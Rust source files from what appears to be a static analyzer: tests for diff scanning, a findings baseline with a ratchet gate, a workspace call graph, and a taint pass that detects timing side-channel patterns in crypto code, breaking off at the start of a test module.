                detail: "call to .unwrap()".to_string(),
                confirmed: None,
            }],
            stats: ScanStats::default(),
        };
        let v = genio_testkit::json::parse(&d.to_json().to_string()).unwrap();
        assert_eq!(v.get("schema").and_then(Value::as_str), Some(DIFF_SCHEMA));
        assert_eq!(
            v.get("base_ref").and_then(Value::as_str),
            Some("HEAD~1")
        );
        assert_eq!(
            v.get("changed_files").and_then(Value::as_arr).map(<[Value]>::len),
            Some(1)
        );
        assert_eq!(
            v.get("findings").and_then(Value::as_arr).map(<[Value]>::len),
            Some(1)
        );
    }

    #[test]
    fn empty_change_set_skips_the_base_scan_and_reports_nothing() {
        let here = Path::new(env!("CARGO_MANIFEST_DIR"));
        let root = crate::workspace::find_root(here).expect("workspace root");
        let opts = ScanOptions { threads: 1, ..ScanOptions::default() };
        let d = diff_scan(&root, &opts, "HEAD", &[]).expect("diff scan");
        assert!(d.findings.is_empty());
        assert!(d.changed_files.is_empty());
    }

    #[test]
    fn spliced_base_recovers_a_removed_finding_as_introduced() {
        // Pretend `security.rs` at the base had no unwrap and the
        // current tree added one: splice the *current* file's content
        // minus nothing (identity) first to prove identity ⇒ empty...
        let here = Path::new(env!("CARGO_MANIFEST_DIR"));
        let root = crate::workspace::find_root(here).expect("workspace root");
        let rel = "crates/analyzer/src/diff.rs".to_string();
        let current = std::fs::read_to_string(root.join(&rel)).unwrap();
        let opts = ScanOptions { threads: 1, ..ScanOptions::default() };
        let d = diff_scan(&root, &opts, "test-base", &[(rel.clone(), Some(current))])
            .expect("identity diff scan");
        assert!(d.findings.is_empty(), "identity splice introduced {:?}", d.findings);

        // ...then splice in a base that *lacks* a file, so every one of
        // the file's current findings counts as introduced. An easy
        // generator: a tiny base file with no findings at all.
        let clean_base = "pub fn placeholder() {}\n".to_string();
        let with_panics = "crates/analyzer/src/lexer.rs".to_string();
        let d2 = diff_scan(
            &root,
            &opts,
            "test-base",
            &[(with_panics.clone(), Some(clean_base))],
        )
        .expect("base-substitution diff scan");
        // All introduced findings (if any) must point at the changed
        // file — untouched files can never appear in the diff.
        assert!(d2.findings.iter().all(|f| f.file == with_panics));
    }
}
