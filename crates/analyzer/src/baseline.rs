//! `genio-analyzer/v1` report serialization and the ratchet baseline.
//!
//! A scan produces a [`Report`]; the repository commits one as
//! `analyzer-baseline.json`. The ratchet contract:
//!
//! * findings present in the baseline are **grandfathered** — known debt,
//!   tracked but not failing;
//! * any finding *not* covered by the baseline is **new** and fails the
//!   verify gate;
//! * findings in the baseline that no longer occur are **fixed**; the
//!   baseline is rewritten (`--write-baseline`) so the count only ever
//!   shrinks.
//!
//! Findings are keyed by `(rule, file, function, detail)` — deliberately
//! **not** by line — so unrelated edits that shift code do not churn the
//! ratchet, and the diff is independent of scan order (a property test
//! in `tests/ratchet.rs` pins both).

use std::collections::BTreeMap;

use genio_testkit::json::{parse, Value};

use crate::rules::{Finding, Rule};

/// Schema tag emitted and required on load.
pub const SCHEMA: &str = "genio-analyzer/v1";

/// One full scan result.
#[derive(Debug, Clone, Default)]
pub struct Report {
    /// Files scanned.
    pub files: u64,
    /// Source lines scanned.
    pub lines: u64,
    /// R4/R5 findings discharged by the interprocedural pass (count
    /// only — the sites are intentionally not baselined).
    pub suppressed: u64,
    /// Findings silenced by a line-scoped `allow(..., reason = "...")`
    /// comment (count only — suppressions are visible in the source).
    pub allowed: u64,
    /// All findings, sorted by [`sort_findings`] order.
    pub findings: Vec<Finding>,
}

/// Line-free identity of a finding for ratchet purposes.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub struct Key {
    /// Rule id.
    pub rule: Rule,
    /// Repo-relative file.
    pub file: String,
    /// Enclosing function.
    pub function: String,
    /// Stable detail string.
    pub detail: String,
}

impl Key {
    /// The key of a finding.
    pub fn of(f: &Finding) -> Key {
        Key {
            rule: f.rule,
            file: f.file.clone(),
            function: f.function.clone(),
            detail: f.detail.clone(),
        }
    }
}

/// Canonical report order: rule, then file, then line, then detail.
pub fn sort_findings(findings: &mut [Finding]) {
    findings.sort_by(|a, b| {
        (a.rule, &a.file, a.line, &a.detail).cmp(&(b.rule, &b.file, b.line, &b.detail))
    });
}

/// Multiset of finding keys.
fn key_counts(findings: &[Finding]) -> BTreeMap<Key, usize> {
    let mut counts = BTreeMap::new();
    for f in findings {
        *counts.entry(Key::of(f)).or_insert(0) += 1;
    }
    counts
}

/// Outcome of diffing a scan against the baseline.
#[derive(Debug, Clone, Default)]
pub struct Diff {
    /// Findings not covered by the baseline — these fail the gate. When a
    /// key's count grew, the excess findings are listed.
    pub new: Vec<Finding>,
    /// Baseline keys no longer found (count shrank), with how many went.
    pub fixed: Vec<(Key, usize)>,
}

impl Diff {
    /// Does the ratchet pass (no new findings)?
    pub fn passes(&self) -> bool {
        self.new.is_empty()
    }
}

/// Diffs `current` findings against `baseline` findings as multisets of
/// line-free keys. Order-independent: permuting either input does not
/// change the outcome (up to the canonical sort of the output).
pub fn diff(current: &[Finding], baseline: &[Finding]) -> Diff {
    let base = key_counts(baseline);
    let cur = key_counts(current);

    let mut new = Vec::new();
    for (key, &n) in &cur {
        let allowed = base.get(key).copied().unwrap_or(0);
        if n > allowed {
            // List the excess occurrences (last by line order, so the
            // report points at real locations).
            let mut at: Vec<&Finding> =
                current.iter().filter(|f| Key::of(f) == *key).collect();
            at.sort_by_key(|f| f.line);
            new.extend(at.into_iter().skip(allowed).cloned());
        }
    }
    sort_findings(&mut new);

    let mut fixed = Vec::new();
    for (key, &n) in &base {
        let now = cur.get(key).copied().unwrap_or(0);
        if now < n {
            fixed.push((key.clone(), n - now));
        }
    }
    Diff { new, fixed }
}

impl Report {
    /// Per-rule finding counts, in [`Rule::ALL`] order.
    pub fn rule_counts(&self) -> Vec<(Rule, usize)> {
        Rule::ALL
            .iter()
            .map(|&r| (r, self.findings.iter().filter(|f| f.rule == r).count()))
            .collect()
    }

    /// Serializes to the `genio-analyzer/v1` JSON document.
    pub fn to_json(&self) -> Value {
        let findings = self
            .findings
            .iter()
            .map(|f| {
                let mut fields = vec![
                    ("rule".to_string(), Value::Str(f.rule.id().to_string())),
                    ("file".to_string(), Value::Str(f.file.clone())),
                    ("line".to_string(), Value::Num(f.line as f64)),
                    ("function".to_string(), Value::Str(f.function.clone())),
                    ("detail".to_string(), Value::Str(f.detail.clone())),
                ];
                if let Some(c) = f.confirmed {
                    fields.push(("confirmed".to_string(), Value::Bool(c)));
                }
                Value::Obj(fields)
            })
            .collect();
        let rules = self
            .rule_counts()
            .into_iter()
            .map(|(r, n)| {
                Value::Obj(vec![
                    ("rule".to_string(), Value::Str(r.id().to_string())),
                    ("title".to_string(), Value::Str(r.title().to_string())),
                    ("count".to_string(), Value::Num(n as f64)),
                ])
            })
            .collect();
        Value::Obj(vec![
            ("schema".to_string(), Value::Str(SCHEMA.to_string())),
            ("files".to_string(), Value::Num(self.files as f64)),
            ("lines".to_string(), Value::Num(self.lines as f64)),
            ("suppressed".to_string(), Value::Num(self.suppressed as f64)),
            ("allowed".to_string(), Value::Num(self.allowed as f64)),
            ("rules".to_string(), Value::Arr(rules)),
            ("findings".to_string(), Value::Arr(findings)),
        ])
    }

    /// Parses a report (or baseline) back from its JSON text.
    pub fn from_json_text(text: &str) -> Result<Report, String> {
        let v = parse(text)?;
        if v.get("schema").and_then(Value::as_str) != Some(SCHEMA) {
            return Err(format!("not a {SCHEMA} document"));
        }
        let num =
            |key: &str| v.get(key).and_then(Value::as_f64).unwrap_or(0.0) as u64;
        let mut findings = Vec::new();
        for item in v
            .get("findings")
            .and_then(Value::as_arr)
            .ok_or("missing findings array")?
        {
            let s = |key: &str| -> Result<String, String> {
                item.get(key)
                    .and_then(Value::as_str)
                    .map(str::to_string)
                    .ok_or_else(|| format!("finding missing field {key:?}"))
            };
            let rule_id = s("rule")?;
            findings.push(Finding {
                rule: Rule::from_id(&rule_id)
                    .ok_or_else(|| format!("unknown rule {rule_id:?}"))?,
                file: s("file")?,
                line: item.get("line").and_then(Value::as_f64).unwrap_or(0.0) as u32,
                function: s("function")?,
                detail: s("detail")?,
                confirmed: match item.get("confirmed") {
                    Some(Value::Bool(b)) => Some(*b),
                    _ => None,
                },
            });
        }
        Ok(Report {
            files: num("files"),
            lines: num("lines"),
            suppressed: num("suppressed"),
            allowed: num("allowed"),
            findings,
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn finding(rule: Rule, file: &str, line: u32, detail: &str) -> Finding {
        Finding {
            rule,
            file: file.to_string(),
            line,
            function: "f".to_string(),
            detail: detail.to_string(),
            confirmed: None,
        }
    }

    #[test]
    fn roundtrip_preserves_findings() {
        let mut report = Report {
            files: 3,
            lines: 99,
            suppressed: 2,
            allowed: 1,
            findings: vec![
                finding(Rule::R1PanicPath, "a.rs", 7, "call to .unwrap()"),
                finding(Rule::R6DebtMarker, "b.rs", 1, "TODO comment"),
            ],
        };
        report.findings[1].confirmed = Some(true);
        let parsed = Report::from_json_text(&report.to_json().to_string()).unwrap();
        assert_eq!(parsed.files, 3);
        assert_eq!(parsed.lines, 99);
        assert_eq!(parsed.suppressed, 2);
        assert_eq!(parsed.allowed, 1);
        assert_eq!(parsed.findings, report.findings);
    }

    #[test]
    fn identical_scan_passes_the_ratchet() {
        let fs = vec![finding(Rule::R1PanicPath, "a.rs", 7, "call to .unwrap()")];
        let d = diff(&fs, &fs);
        assert!(d.passes());
        assert!(d.fixed.is_empty());
    }

    #[test]
    fn line_shifts_do_not_fail_the_ratchet() {
        let base = vec![finding(Rule::R1PanicPath, "a.rs", 7, "call to .unwrap()")];
        let cur = vec![finding(Rule::R1PanicPath, "a.rs", 93, "call to .unwrap()")];
        assert!(diff(&cur, &base).passes());
    }

    #[test]
    fn extra_occurrence_of_a_known_key_is_new() {
        let base = vec![finding(Rule::R1PanicPath, "a.rs", 7, "call to .unwrap()")];
        let cur = vec![
            finding(Rule::R1PanicPath, "a.rs", 7, "call to .unwrap()"),
            finding(Rule::R1PanicPath, "a.rs", 41, "call to .unwrap()"),
        ];
        let d = diff(&cur, &base);
        assert_eq!(d.new.len(), 1);
        assert_eq!(d.new[0].line, 41);
    }

    #[test]
    fn removals_are_reported_fixed() {
        let base = vec![
            finding(Rule::R1PanicPath, "a.rs", 7, "call to .unwrap()"),
            finding(Rule::R6DebtMarker, "b.rs", 2, "TODO comment"),
        ];
        let cur = vec![finding(Rule::R1PanicPath, "a.rs", 7, "call to .unwrap()")];
        let d = diff(&cur, &base);
        assert!(d.passes());
        assert_eq!(d.fixed.len(), 1);
        assert_eq!(d.fixed[0].0.rule, Rule::R6DebtMarker);
    }
}
