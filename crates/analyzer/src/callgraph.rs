//! Workspace-wide call graph over per-file summaries.
//!
//! Links every [`crate::summary::FnSummary`] by *name*: resolution is
//! deliberately conservative — a callee name is resolved only when the
//! workspace defines exactly one function with that name
//! ([`CallGraph::resolve_unique`]), and every interprocedural judgement
//! in [`crate::dataflow`] requires such a unique resolution. Ambiguous
//! names (`new`, `len`, trait impls) simply contribute no edges, which
//! can only make the analysis *miss* a discharge or a leak, never
//! invent one.
//!
//! The graph also carries the workspace constant table (`const N: usize
//! = 16;`), the type-alias table (`type Block = [u8; N];`) and a
//! reverse caller index, so bound/length questions can be answered
//! across file boundaries.

use std::collections::BTreeMap;

use crate::rules::{Access, Finding};
use crate::summary::{CallSite, FileSummary, FnSummary};

/// One summarised file with its per-file scan payload, as the workspace
/// hands it to the interprocedural pass.
#[derive(Debug, Clone, Default)]
pub struct FileFacts {
    /// Crate directory name (`crypto`, `netsec`, …).
    pub crate_name: String,
    /// Repo-relative path, forward slashes.
    pub rel_path: String,
    /// The file's item/function summary.
    pub summary: FileSummary,
    /// Per-file findings after the sast bridge ran.
    pub findings: Vec<Finding>,
    /// R4/R5 access records from the lexical pass.
    pub accesses: Vec<Access>,
}

/// Identifies one function: (file index, function index within file).
pub type FnId = (usize, usize);

/// One call edge: the calling function and which of its call sites.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CallerRef {
    /// Calling function.
    pub caller: FnId,
    /// Index into the caller's `calls` list.
    pub call: usize,
}

/// The workspace call graph (borrows the facts it indexes).
pub struct CallGraph<'a> {
    files: &'a [FileFacts],
    defs: BTreeMap<&'a str, Vec<FnId>>,
    callers: BTreeMap<&'a str, Vec<CallerRef>>,
    /// `None` marks a name defined with conflicting values.
    consts: BTreeMap<&'a str, Option<u64>>,
    /// Alias name → `(defining file, rhs)`. `None` marks a name defined
    /// more than once — even textually equal definitions are treated as
    /// ambiguous, because the rhs resolves in its defining file.
    types: BTreeMap<&'a str, Option<(usize, &'a str)>>,
    /// Per-file constant table: same-file definitions shadow the
    /// workspace (`BLOCK_LEN` is 16 in `aes.rs` and 64 in `sha256.rs`).
    file_consts: Vec<BTreeMap<&'a str, u64>>,
    /// Per-file alias table, same shadowing rule.
    file_types: Vec<BTreeMap<&'a str, &'a str>>,
}

impl<'a> CallGraph<'a> {
    /// Indexes definitions, callers, constants and aliases.
    pub fn build(files: &'a [FileFacts]) -> CallGraph<'a> {
        let mut defs: BTreeMap<&str, Vec<FnId>> = BTreeMap::new();
        let mut callers: BTreeMap<&str, Vec<CallerRef>> = BTreeMap::new();
        let mut consts: BTreeMap<&str, Option<u64>> = BTreeMap::new();
        let mut types: BTreeMap<&str, Option<(usize, &str)>> = BTreeMap::new();
        let mut file_consts: Vec<BTreeMap<&str, u64>> = Vec::new();
        let mut file_types: Vec<BTreeMap<&str, &str>> = Vec::new();

        for (fi, file) in files.iter().enumerate() {
            let mut local_consts = BTreeMap::new();
            let mut local_types = BTreeMap::new();
            for (name, val) in &file.summary.consts {
                local_consts.entry(name.as_str()).or_insert(*val);
                consts
                    .entry(name.as_str())
                    .and_modify(|v| {
                        if *v != Some(*val) {
                            *v = None;
                        }
                    })
                    .or_insert(Some(*val));
            }
            for (name, rhs) in &file.summary.types {
                local_types.entry(name.as_str()).or_insert(rhs.as_str());
                types
                    .entry(name.as_str())
                    .and_modify(|v| *v = None)
                    .or_insert(Some((fi, rhs.as_str())));
            }
            file_consts.push(local_consts);
            file_types.push(local_types);
            for (ni, f) in file.summary.functions.iter().enumerate() {
                defs.entry(f.name.as_str()).or_default().push((fi, ni));
                for (ci, call) in f.calls.iter().enumerate() {
                    callers
                        .entry(call.callee.as_str())
                        .or_default()
                        .push(CallerRef { caller: (fi, ni), call: ci });
                }
            }
        }
        CallGraph { files, defs, callers, consts, types, file_consts, file_types }
    }

    /// The indexed files, in input order.
    pub fn files(&self) -> &'a [FileFacts] {
        self.files
    }

    /// The function summary behind an id.
    pub fn function(&self, id: FnId) -> &'a FnSummary {
        &self.files[id.0].summary.functions[id.1]
    }

    /// The call site behind a caller reference.
    pub fn call_site(&self, r: CallerRef) -> &'a CallSite {
        &self.function(r.caller).calls[r.call]
    }

    /// Crate name of the file a function lives in.
    pub fn crate_of(&self, id: FnId) -> &'a str {
        &self.files[id.0].crate_name
    }

    /// Resolves `name` iff the workspace defines exactly one such fn.
    pub fn resolve_unique(&self, name: &str) -> Option<FnId> {
        match self.defs.get(name).map(Vec::as_slice) {
            Some([only]) => Some(*only),
            _ => None,
        }
    }

    /// Every recorded call site naming `name` as its callee.
    pub fn callers_of(&self, name: &str) -> &[CallerRef] {
        self.callers.get(name).map(Vec::as_slice).unwrap_or(&[])
    }

    /// Resolves `name` as seen from a caller in `crate_name`: unique
    /// across the workspace, or unique among the definitions inside the
    /// caller's own crate (method names like `step` repeat across
    /// crates, but a crate-local call overwhelmingly targets the
    /// crate-local definition). Used by the R16 closure, which must not
    /// lose edges to cross-crate name collisions.
    pub fn resolve_from(&self, name: &str, crate_name: &str) -> Option<FnId> {
        let defs = self.defs.get(name).map(Vec::as_slice).unwrap_or(&[]);
        match defs {
            [only] => Some(*only),
            many => {
                let mut in_crate = many.iter().filter(|id| self.crate_of(**id) == crate_name);
                match (in_crate.next(), in_crate.next()) {
                    (Some(&only), None) => Some(only),
                    _ => None,
                }
            }
        }
    }

    /// All definitions of `name`, workspace-wide.
    pub fn defs_of(&self, name: &str) -> &[FnId] {
        self.defs.get(name).map(Vec::as_slice).unwrap_or(&[])
    }

    /// Constant value as seen from `file`: a same-file definition
    /// shadows the workspace; otherwise the name must be unambiguous
    /// across the workspace.
    pub fn const_value_at(&self, file: usize, name: &str) -> Option<u64> {
        self.file_consts
            .get(file)
            .and_then(|m| m.get(name).copied())
            .or_else(|| self.consts.get(name).copied().flatten())
    }

    /// Alias rhs as seen from `file`, with the file the rhs must be
    /// further resolved in.
    fn alias_at(&self, file: usize, name: &str) -> Option<(usize, &'a str)> {
        if let Some(rhs) = self.file_types.get(file).and_then(|m| m.get(name)) {
            return Some((file, rhs));
        }
        self.types.get(name).copied().flatten()
    }

    /// Evaluates a size expression that is a single integer literal or
    /// a single constant name (`16`, `BLOCK_LEN`), scoped to `file`.
    pub fn eval_size_at(&self, file: usize, text: &str) -> Option<u64> {
        crate::rules::parse_int(text).or_else(|| self.const_value_at(file, text))
    }

    /// Element count of an array-shaped type as written in `file`,
    /// resolved through references and up to four alias hops:
    /// `&'static [u8; 256]` → `256`, `&mut Block` → `[u8; BLOCK_LEN]` →
    /// `16`. Each hop re-scopes to the alias's defining file, so the
    /// size constant resolves where the alias was written.
    pub fn type_len_at(&self, file: usize, text: &str) -> Option<u64> {
        let mut scope = file;
        let mut t = text;
        for _ in 0..4 {
            t = strip_ref(t);
            if let Some(inner) = t.strip_prefix('[') {
                let end = inner.rfind(']')?;
                let body = &inner[..end];
                let semi = top_level_semi(body)?;
                return self.eval_size_at(scope, &body[semi + 1..]);
            }
            let (next_scope, rhs) = self.alias_at(scope, t)?;
            scope = next_scope;
            t = rhs;
        }
        None
    }
}

/// Strips `&`, a leading lifetime, and a `mut` qualifier from joined
/// type text (`&'static[u8;256]` → `[u8;256]`).
fn strip_ref(text: &str) -> &str {
    let mut t = text;
    loop {
        if let Some(rest) = t.strip_prefix('&') {
            t = rest;
            continue;
        }
        if let Some(rest) = t.strip_prefix('\'') {
            let end = rest
                .char_indices()
                .find(|&(_, c)| !(c.is_ascii_alphanumeric() || c == '_'))
                .map(|(i, _)| i)
                .unwrap_or(rest.len());
            t = &rest[end..];
            continue;
        }
        if let Some(rest) = t.strip_prefix("mut") {
            if !rest.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_') {
                t = rest;
                continue;
            }
        }
        return t;
    }
}

/// Index of the last `;` at bracket depth zero of `body` (the inside of
/// an array type: `[u8;4];N` for `[[u8;4];N]`).
fn top_level_semi(body: &str) -> Option<usize> {
    let mut depth = 0i64;
    let mut found = None;
    for (i, c) in body.char_indices() {
        match c {
            '[' | '(' | '<' => depth += 1,
            ']' | ')' | '>' => depth -= 1,
            ';' if depth == 0 => found = Some(i),
            _ => {}
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lexer::tokenize;
    use crate::rules::annotate;
    use crate::summary::summarize;

    fn facts(crate_name: &str, rel_path: &str, src: &str) -> FileFacts {
        FileFacts {
            crate_name: crate_name.to_string(),
            rel_path: rel_path.to_string(),
            summary: summarize(&annotate(tokenize(src))),
            findings: Vec::new(),
            accesses: Vec::new(),
        }
    }

    #[test]
    fn unique_resolution_and_callers() {
        let files = vec![
            facts("crypto", "a.rs", "pub fn seal(k: &Key) {} pub fn open(k: &Key) {}"),
            facts("netsec", "b.rs", "fn run(k: &Key) { seal(k); seal(k); open(k); }"),
            facts("pon", "c.rs", "fn open(x: u8) {}"),
        ];
        let g = CallGraph::build(&files);
        assert!(g.resolve_unique("seal").is_some());
        // `open` is defined twice — ambiguous, unresolved.
        assert!(g.resolve_unique("open").is_none());
        assert_eq!(g.callers_of("seal").len(), 2);
        assert_eq!(g.crate_of(g.resolve_unique("seal").unwrap()), "crypto");
    }

    #[test]
    fn const_and_alias_tables_resolve_lengths() {
        let files = vec![
            facts(
                "crypto",
                "aes.rs",
                "pub const BLOCK_LEN: usize = 16;\npub type Block = [u8; BLOCK_LEN];",
            ),
            facts("crypto", "gcm.rs", "pub const TAG_LEN: usize = 16;"),
        ];
        let g = CallGraph::build(&files);
        // Cross-file view (gcm.rs): BLOCK_LEN is workspace-unique here.
        assert_eq!(g.const_value_at(1, "BLOCK_LEN"), Some(16));
        assert_eq!(g.eval_size_at(1, "BLOCK_LEN"), Some(16));
        assert_eq!(g.eval_size_at(0, "32"), Some(32));
        assert_eq!(g.type_len_at(1, "&'static[u8;256]"), Some(256));
        // Summary joining drops `mut`, so `&mut Block` arrives as `&Block`;
        // the alias hop re-scopes resolution to aes.rs.
        assert_eq!(g.type_len_at(1, "&Block"), Some(16));
        assert_eq!(g.type_len_at(0, "[[u8;4];BLOCK_LEN]"), Some(16));
        assert_eq!(g.type_len_at(0, "&[u8]"), None);
    }

    #[test]
    fn same_file_constants_shadow_workspace_conflicts() {
        let files = vec![
            facts(
                "crypto",
                "aes.rs",
                "pub const BLOCK_LEN: usize = 16;\npub type Block = [u8; BLOCK_LEN];",
            ),
            facts("crypto", "sha256.rs", "pub const BLOCK_LEN: usize = 64;"),
        ];
        let g = CallGraph::build(&files);
        // Globally conflicting, but each file sees its own definition.
        assert_eq!(g.const_value_at(0, "BLOCK_LEN"), Some(16));
        assert_eq!(g.const_value_at(1, "BLOCK_LEN"), Some(64));
        // The Block alias resolves BLOCK_LEN in aes.rs even when the
        // type text is read from sha256.rs's perspective.
        assert_eq!(g.type_len_at(1, "&Block"), Some(16));
    }

    #[test]
    fn conflicting_consts_are_ambiguous_cross_file() {
        let files = vec![
            facts("a", "a.rs", "pub const N: usize = 4;"),
            facts("b", "b.rs", "pub const N: usize = 8;"),
            facts("c", "c.rs", "pub fn unrelated() {}"),
        ];
        let g = CallGraph::build(&files);
        // From a third file, N is ambiguous; from the defining files it
        // is the local value.
        assert_eq!(g.const_value_at(2, "N"), None);
        assert_eq!(g.const_value_at(0, "N"), Some(4));
        assert_eq!(g.const_value_at(1, "N"), Some(8));
    }
}
