//! Constant-time side-channel taint pass: rules R10–R12.
//!
//! Secrets leak through more channels than memory: the *time* a routine
//! takes is observable to a network peer, and at the telco edge (where
//! the GCM/MACsec data plane runs per frame) a timing oracle is a key
//! recovery primitive. This pass reuses the R8 taint registry — values
//! of secret-named types declared in `crypto`/`netsec`, plus
//! secret-named byte-slice parameters inside those crates — and extends
//! it one step through `let` initialisers (`let b = key[i];` taints
//! `b`), then checks the three classic variable-time shapes:
//!
//! * **R10** — a branch condition (`if`/`match`/`while`) reads tainted
//!   data, making the instruction stream secret-dependent. Detected
//!   directly, and interprocedurally: a per-function *branched-param*
//!   bitset is propagated to a fixpoint over the call graph (the same
//!   machinery as the R8 param-leak fixpoint), so passing a secret into
//!   a function that branches on that parameter is caught at the call.
//! * **R11** — tainted data drives a slice/array index: the memory
//!   address (and therefore the cache set) becomes a function of the
//!   secret. The AES T-table lookup is the canonical instance.
//! * **R12** — a variable-time ALU operation on tainted data: `/` and
//!   `%` have data-dependent latency on most cores, and a short-circuit
//!   `==`/`!=` reveals the first differing byte. `genio_crypto::ct::eq`
//!   is the sanctioned comparator and the one file allowed to compare
//!   directly ([`ALLOWED_FILES`]). Inside the R2 crates a secret-*named*
//!   comparison is already R2's finding and is not double-reported; R12
//!   adds the secret-*typed* cases R2's name heuristic cannot see.
//!
//! Deliberate exceptions (table-driven AES, key-format dispatch on
//! public structure) are suppressed in place with
//! `// genio-analyzer: allow(R11, reason = "...")` — line-scoped, never
//! file-wide; the suppression is applied by [`crate::workspace`].
//!
//! The taint never crosses field projections or method calls
//! (`state.key`, `key.contains(..)`) — conservative by design: a missed
//! projected read costs a finding, a false positive costs the ratchet
//! its credibility.

use std::collections::{BTreeMap, BTreeSet};

use crate::callgraph::{CallGraph, FileFacts, FnId};
use crate::dataflow::{
    secret_type_names, source_vars, SECRET_TYPE_CRATES, STD_METHOD_NAMES,
};
use crate::rules::{has_secret_segment, Finding, Rule};
use crate::summary::FnSummary;

/// Files exempt from the pass: the constant-time primitives themselves.
/// `ct::eq` must compare byte-by-byte — that is its whole job.
const ALLOWED_FILES: &[(&str, &str)] = &[("crypto", "ct.rs")];

/// Runs R10–R12 over the workspace facts. Findings are returned in
/// file/function/site order and are deterministic by construction.
pub fn run(files: &[FileFacts]) -> Vec<Finding> {
    let graph = CallGraph::build(files);
    let secret_types = secret_type_names(&graph);
    let branched = param_branch_fixpoint(&graph);

    let mut findings = Vec::new();
    for file in files {
        if ALLOWED_FILES.iter().any(|&(c, f)| {
            c == file.crate_name && file.rel_path.ends_with(&format!("/{f}"))
        }) {
            continue;
        }
        let r2_scope = SECRET_TYPE_CRATES.contains(&file.crate_name.as_str());
        for fun in &file.summary.functions {
            let tainted = taint_closure(
                source_vars(&graph, file, fun, &secret_types),
                fun,
            );
            if tainted.is_empty() {
                continue;
            }

            // R10 direct: a condition reads a tainted identifier.
            for cond in &fun.conds {
                if let Some(names) = tainted_list(&cond.idents, &tainted) {
                    findings.push(finding(
                        Rule::R10SecretBranch,
                        file,
                        cond.line,
                        fun,
                        format!("branch condition depends on secret {names}"),
                    ));
                }
            }

            // R10 one-hop: a tainted identifier is passed bare into a
            // callee that (transitively) branches on that parameter.
            // Ubiquitous std method names never resolve — `.contains()`
            // on a field must not hop into an unrelated inherent fn.
            for call in &fun.calls {
                if STD_METHOD_NAMES.contains(&call.callee.as_str()) {
                    continue;
                }
                let Some(callee) = graph.resolve_unique(&call.callee) else {
                    continue;
                };
                let Some(bits) = branched.get(&callee) else { continue };
                for (pos, arg) in call.args.iter().enumerate() {
                    let Some(ident) = &arg.ident else { continue };
                    if bits.get(pos).copied().unwrap_or(false) && tainted.contains(ident)
                    {
                        findings.push(finding(
                            Rule::R10SecretBranch,
                            file,
                            call.line,
                            fun,
                            format!(
                                "secret `{ident}` branched on inside `{}`",
                                call.callee
                            ),
                        ));
                    }
                }
            }

            // R11: a tainted identifier drives an index expression.
            for ix in &fun.indexes {
                if let Some(names) = tainted_list(&ix.idents, &tainted) {
                    findings.push(finding(
                        Rule::R11SecretIndex,
                        file,
                        ix.line,
                        fun,
                        format!("secret {names} indexes `{}`", ix.base),
                    ));
                }
            }

            // R12: `/`, `%`, `==`, `!=` with a tainted operand.
            for op in &fun.vt_ops {
                let is_eq = matches!(op.op.as_str(), "==" | "!=");
                let relevant: Vec<String> = op
                    .idents
                    .iter()
                    .filter(|id| tainted.contains(*id))
                    // Secret-*named* comparisons in crypto/netsec are
                    // already R2 findings; R12 adds the typed cases.
                    .filter(|id| !(is_eq && r2_scope && has_secret_segment(id)))
                    .cloned()
                    .collect();
                if let Some(names) = tainted_list(&relevant, &tainted) {
                    let hint = if is_eq { " (use ct::eq)" } else { "" };
                    findings.push(finding(
                        Rule::R12VariableTimeOp,
                        file,
                        op.line,
                        fun,
                        format!("variable-time `{}` on secret {names}{hint}", op.op),
                    ));
                }
            }
        }
    }
    findings
}

fn finding(
    rule: Rule,
    file: &FileFacts,
    line: u32,
    fun: &FnSummary,
    detail: String,
) -> Finding {
    Finding {
        rule,
        file: file.rel_path.clone(),
        line,
        function: fun.name.clone(),
        detail,
        confirmed: Some(true),
    }
}

/// Sorted, backtick-quoted list of the tainted identifiers among
/// `idents`, or `None` when there are none — one finding per site,
/// stable detail text for the ratchet key.
fn tainted_list(idents: &[String], tainted: &BTreeSet<String>) -> Option<String> {
    let hits: BTreeSet<&String> =
        idents.iter().filter(|id| tainted.contains(*id)).collect();
    if hits.is_empty() {
        return None;
    }
    Some(
        hits.iter()
            .map(|id| format!("`{id}`"))
            .collect::<Vec<_>>()
            .join(", "),
    )
}

/// Extends the source set through `let` initialisers to a fixpoint:
/// a local whose initialiser reads a tainted identifier is tainted
/// (`let b = key[i]; let c = b ^ m;` taints `b` and `c`). Call results
/// are *not* tainted this way — `collect_reads` already excludes call
/// arguments, and callee returns are typed through `local_calls` in
/// [`source_vars`].
fn taint_closure(sources: BTreeSet<String>, fun: &FnSummary) -> BTreeSet<String> {
    let mut tainted = sources;
    loop {
        let mut changed = false;
        for (name, reads) in &fun.local_inits {
            if !tainted.contains(name) && reads.iter().any(|r| tainted.contains(r)) {
                tainted.insert(name.clone());
                changed = true;
            }
        }
        if !changed {
            break;
        }
    }
    tainted
}

/// For every function: which parameter positions reach a branch
/// condition, in the function itself or transitively through
/// bare-argument calls — the R10 analogue of the R8 param-leak fixpoint.
fn param_branch_fixpoint(graph: &CallGraph<'_>) -> BTreeMap<FnId, Vec<bool>> {
    let mut branched: BTreeMap<FnId, Vec<bool>> = BTreeMap::new();
    for (fi, file) in graph.files().iter().enumerate() {
        for (ni, f) in file.summary.functions.iter().enumerate() {
            let direct: Vec<bool> = f
                .params
                .iter()
                .map(|(name, _)| {
                    f.conds.iter().any(|c| c.idents.iter().any(|id| id == name))
                })
                .collect();
            branched.insert((fi, ni), direct);
        }
    }
    for _ in 0..64 {
        let mut changed = false;
        for (fi, file) in graph.files().iter().enumerate() {
            for (ni, f) in file.summary.functions.iter().enumerate() {
                for call in &f.calls {
                    let Some(callee) = graph.resolve_unique(&call.callee) else {
                        continue;
                    };
                    if callee == (fi, ni) {
                        continue;
                    }
                    let callee_bits = branched.get(&callee).cloned().unwrap_or_default();
                    for (pos, arg) in call.args.iter().enumerate() {
                        let Some(ident) = &arg.ident else { continue };
                        if !callee_bits.get(pos).copied().unwrap_or(false) {
                            continue;
                        }
                        let Some(ppos) =
                            f.params.iter().position(|(name, _)| name == ident)
                        else {
                            continue;
                        };
                        if let Some(own) = branched.get_mut(&(fi, ni)) {
                            if !own[ppos] {
                                own[ppos] = true;
                                changed = true;
                            }
                        }
                    }
                }
            }
        }
        if !changed {
            break;
        }
    }
    branched
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lexer::tokenize;
